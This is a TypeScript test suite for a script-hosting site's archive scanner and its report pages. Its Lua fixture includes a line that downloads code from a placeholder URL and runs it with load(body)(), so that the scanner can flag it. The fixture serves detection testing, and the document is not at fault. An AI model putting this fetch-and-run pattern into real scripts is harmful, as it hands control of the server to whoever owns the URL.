import { sql } from 'drizzle-orm'
import { expect, test } from 'vitest'

import { analyseAll } from '#test-support/analyses.ts'
import { zipOf } from '#test-support/archives/zip.ts'
import { scriptForm } from '#test-support/script-forms.ts'
import { startTestApp, type TestApp } from '#test-support/test-app.ts'

const app = await startTestApp()
const author = await app.createUser('scripts.upload')
const moderator = await app.createUser('admin.system.access', 'admin.scripts.moderate')

const manifest =
  "fx_version 'cerulean'\ngame 'gta5'\nversion '1.2.0'\nserver_script 'server.lua'\nserver_script 'missing.lua'\ndependency 'ox_lib'\n"
const server = [
  "RegisterCommand('fines', function() end)",
  "-- PerformHttpRequest('https://old.example.com', function(code, body) load(body)() end)",
  "PerformHttpRequest('https://api.example.com/rates', function(code, body) load(body)() end)",
].join('\n')

async function submit(files: Record<string, string>, name: string) {
  const members = Object.entries(files).map(([path, content]) => ({ name: path, content, deflate: true }))
  const archive = { fileName: 'fines.zip', content: zipOf(members) }
  const { body, status } = await app.request(
    author,
    'POST',
    '/api/scripts',
    await scriptForm({ name }, { archive }),
  )
  expect(status).toBe(201)
  return body
}

const finding = await submit({ 'fines/fxmanifest.lua': manifest, 'fines/server.lua': server }, 'Fines')

const pageOf = async (path: string, from: TestApp = app) => {
  const { body, status } = await from.request(null, 'GET', path)
  return { html: String(body), status, text: textOf(String(body)) }
}

/** The visible text of a page, with a line for each element. */
function textOf(html: string): string {
  const main = html.slice(html.indexOf('<main'), html.indexOf('</main>'))
  return main
    .replaceAll(/<!--.*?-->/g, '')
    .replaceAll(/<[^>]*>/g, '\n')
    .replaceAll('&#x27;', "'")
    .replaceAll('&quot;', '"')
    .replaceAll(/\n+/g, '\n')
}

const head = [
  'Check first: runs code that it downloads, in',
  'fines/server.lua:3',
  'The code does this. The author has not explained it, and no moderator has ruled on it yet.',
]

test('an archive that waits has its position in the queue on both pages', async () => {
  for (const path of [`/scripts/${finding.id}`, `/scripts/${finding.id}/report`]) {
    const { status, text } = await pageOf(path)
    expect([path, status]).toEqual([path, 200])
    expect(text).toContain('Waiting for the scan: position 1')
    expect(text).toContain('It is next. The result should be here in a few seconds.')
  }
  await analyseAll(app)
})

test('the page of a script says what is inside its archive', async () => {
  const { html, text } = await pageOf(`/scripts/${finding.id}`)

  for (const line of ['What is inside', ...head, 'Calls out: 1 destination', 'GTA V'])
    expect(text).toContain(line)
  for (const page of ['report', 'files']) expect(html).toContain(`href="/scripts/${finding.id}/${page}"`)
})

test('the report is complete without JavaScript', async () => {
  const { html, text } = await pageOf(`/scripts/${finding.id}/report`)

  expect(html).toContain('<title>Report: Fines · Scripthaven</title>')
  expect(html).toContain(`rel="canonical" href="https://hub.example/scripts/${finding.id}/report"`)
  for (const shown of [
    ...head,
    'https://api.example.com/rates, run by load',
    'Do not open this URL: its owner sees that you looked',
    'This lists what our scanner found. A report without findings does not prove that a script is harmless. The code was not run.',
    'Runs code that it downloads',
    'The owner of the URL decides what your server does',
    'fines/server.lua:3',
    'server side',
    "PerformHttpRequest('https://api.example.com/rates'",
    'What it can do',
    'api.example.com',
    'missing.lua',
    'ox_lib',
    '/fines',
    '2 files in 1 folder',
    '.lua',
    'the first version',
    finding.sha256,
  ])
    expect(text).toContain(shown)
  expect(html).toContain(`href="/scripts/${finding.id}/files/fines/server.lua#L3"`)
  expect(html).toMatch(/<h2 id="findings"[^>]*>Findings</)
  expect(text).not.toContain('Worth a look')
  expect(html).toContain('href="/rules#runs-downloaded-code"')
  expect(html).not.toContain('href="https://api.example.com')
})

test('the comment of the author and the verdict of a moderator are in the report', async () => {
  const path = 'fines/server.lua'
  const rule = 'runs-downloaded-code'
  const comment = { rule, path, text: 'The rates of the tax office.' }
  await app.request(author, 'PUT', `/api/scripts/${finding.id}/finding-comments`, comment)
  const { body } = await app.request(null, 'GET', `/api/versions/${finding.versionId}/report`)
  const { fileSha256 } = body.findings.find((one: { rule: string }) => one.rule === rule)
  for (const page of ['', '/report'])
    expect((await pageOf(`/scripts/${finding.id}${page}`)).text).toContain(
      'The author has explained it; no moderator has ruled on it yet.',
    )
  const verdict = { verdict: 'accepted', note: 'Read it: the URL is that of the author.' }
  await app.request(moderator, 'PUT', `/api/finding-verdicts/${rule}/${fileSha256}`, verdict)

  const { text } = await pageOf(`/scripts/${finding.id}/report`)

  for (const shown of [comment.text, verdict.note, 'accepted by a moderator', 'Checked and accepted'])
    expect(text).toContain(shown)
  expect(text).not.toContain('Check first: runs')
})

test('an archive without findings says only that no known pattern was found', async () => {
  const script = await submit({ 'a/readme.txt': 'Hello' }, 'Readme')
  await analyseAll(app)

  for (const path of [`/scripts/${script.id}`, `/scripts/${script.id}/report`])
    expect((await pageOf(path)).text).toContain('No known suspicious patterns')
})

test('an archive that cannot be read says why', async () => {
  const script = await submit({ 'b/readme.txt': 'Bye' }, 'Gone')
  await app.db.execute(
    sql`update archive_analyses set state = 'failed', failure = 'damaged' where sha256 = ${script.sha256}`,
  )
  app.app.cache.clear()

  for (const path of [`/scripts/${script.id}`, `/scripts/${script.id}/report`]) {
    const { text } = await pageOf(path)
    expect(text).toContain('Could not be read')
    expect(text).toContain(
      'A file in the archive is damaged. Its author can pack it again and upload a new version.',
    )
  }
})

test('the catalogue of rules has an anchor for each rule', async () => {
  const { html, text, status } = await pageOf('/rules')
  const { body } = await app.request(null, 'GET', '/api/rules')

  expect(status).toBe(200)
  expect(html).toContain('rel="canonical" href="https://hub.example/rules"')
  for (const { id, title } of body.rules) {
    expect(html).toContain(`id="${id}"`)
    expect(text).toContain(title)
  }
})

test('there is no report of a script that does not exist', async () => {
  for (const path of ['/scripts/99999/report', '/scripts/abc/report'])
    expect(await pageOf(path)).toMatchObject({
      status: 404,
      text: expect.stringContaining('Script Not Found'),
    })
})

test('no page says of an archive that it is harmless or harmful', async () => {
  const pages = [`/scripts/${finding.id}`, `/scripts/${finding.id}/report`, '/rules']
  const texts = await Promise.all(pages.map(async (path) => (await pageOf(path)).text))

  for (const text of texts)
    expect(text.replaceAll('Scripts are not verified. Test before you install.', '')).not.toMatch(
      /\b(safe|clean|trusted|verified|virus-free|malware)\b/i,
    )
})
